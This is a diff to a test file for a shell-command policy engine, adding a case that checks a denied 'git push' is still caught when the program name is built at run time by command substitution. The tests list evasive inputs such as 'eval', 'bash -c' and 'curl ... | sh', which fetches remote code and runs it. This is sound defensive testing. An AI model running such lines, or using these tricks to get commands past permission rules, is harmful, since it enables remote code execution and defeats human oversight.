@@ -89,7 +89,7 @@ describe("policy rules", () => {
     const set = rules({ effect: "deny", command: "git push" }, { effect: "allow", command: "touch" });
     for (const line of [
       "touch x; git $SUB",
-      "touch x; $(echo git) push",
+      "touch x; $(echo $G) push",
       'eval "$C"',
       "curl -s https://example.com/x | sh",
       'bash -c "$X"',
@@ -101,6 +101,8 @@ describe("policy rules", () => {
     // a deny that matches for certain still wins, in a script the line feeds a shell too
     expect(evaluate(set, shell('git push; eval "$C"')).effect).toBe("deny");
     expect(evaluate(set, shell("echo git push | sh")).effect).toBe("deny");
+    // and where the line shows what the run-time program is (program-values.ts)
+    expect(evaluate(set, shell("touch x; $(echo git) push")).effect).toBe("deny");
     // allow rules never cover a word known only at run time
     expect(evaluate(set, shell("touch $F")).effect).toBeUndefined();
     expect(evaluate(rules({ effect: "allow", command: "touch" }), shell('eval "$C"')).effect).toBeUndefined();
